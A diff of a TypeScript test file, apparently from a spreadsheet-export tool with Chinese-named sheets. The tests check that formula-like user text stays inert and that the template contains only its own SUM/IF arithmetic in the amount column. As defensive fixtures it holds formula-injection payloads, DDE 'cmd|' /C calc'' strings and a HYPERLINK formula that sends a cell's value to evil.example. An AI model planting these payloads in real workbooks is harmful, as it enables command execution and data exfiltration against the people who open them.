@@ -150,10 +150,11 @@ describe("the annotated copy of a workbook full of formula-like text", () => {
 
     it("shows the person's text, never what it would compute", () => {
       const findings = sheets.get("檢核結果")!;
-      expect(findings).toContain(",+1+cmd|' /C calc'!A0\n");
-      expect(findings).toContain(",-2+3\n");
-      expect(findings).toContain(",@A1\n");
-      expect(findings).toContain(',"\n-1+1"\n');
+      // Exception notes, in the column before the rule ID.
+      expect(findings).toContain(",+1+cmd|' /C calc'!A0,WB-VALUE-UNKNOWN\n");
+      expect(findings).toContain(",-2+3,WB-VALUE-UNKNOWN\n");
+      expect(findings).toContain(",@A1,WB-VALUE-UNKNOWN\n");
+      expect(findings).toContain(',"\n-1+1",WB-VALUE-UNKNOWN\n');
       expect(findings).toContain('=HYPERLINK(""http://evil.example/?""&A1,""click"")');
       expect(findings).toContain("@SUM(1+1)*cmd|' /C calc'!A0");
       expect(sheets.get("營運摘要")!.split("\n")[0]).toContain("營運摘要：=HYPERLINK(");
@@ -164,11 +165,18 @@ describe("the annotated copy of a workbook full of formula-like text", () => {
 });
 
 describe("the template", () => {
-  it("holds no formula and no external relationship, in either language", async () => {
+  it("holds only the budget form's own arithmetic (金額, 小計, 合計) and no external relationship, in either language", async () => {
+    const OURS = [
+      /^IF\(AND\(ISNUMBER\(G(\d+)\),ISNUMBER\(H\1\)\),\(\(G\1\*H\1\)\*IF\(\(I\1=""\),1,I\1\)\),""\)$/,
+      /^SUM\(J\d+:J\d+\)$/,
+      /^SUM\(J\d+(?:,J\d+)*\)$/,
+    ];
     for (const language of ["zh-TW", "en"] as const) {
       const bytes = await templateWorkbookBytes(language);
       for (const name of partNames(bytes).filter((part) => /^xl\/worksheets\/sheet\d+\.xml$/.test(part))) {
-        expect(cellsOf(partText(bytes, name)!).filter((cell) => cell.formula !== null)).toEqual([]);
+        const formulas = cellsOf(partText(bytes, name)!).filter((cell) => cell.formula !== null);
+        // Only in the amount column (J), only of these shapes: nothing a person's text could become.
+        expect(formulas.filter((cell) => !/^J\d+$/.test(cell.ref) || !OURS.some((shape) => shape.test(cell.formula!)))).toEqual([]);
       }
       expect(externalRelationships(bytes)).toEqual([]);
     }
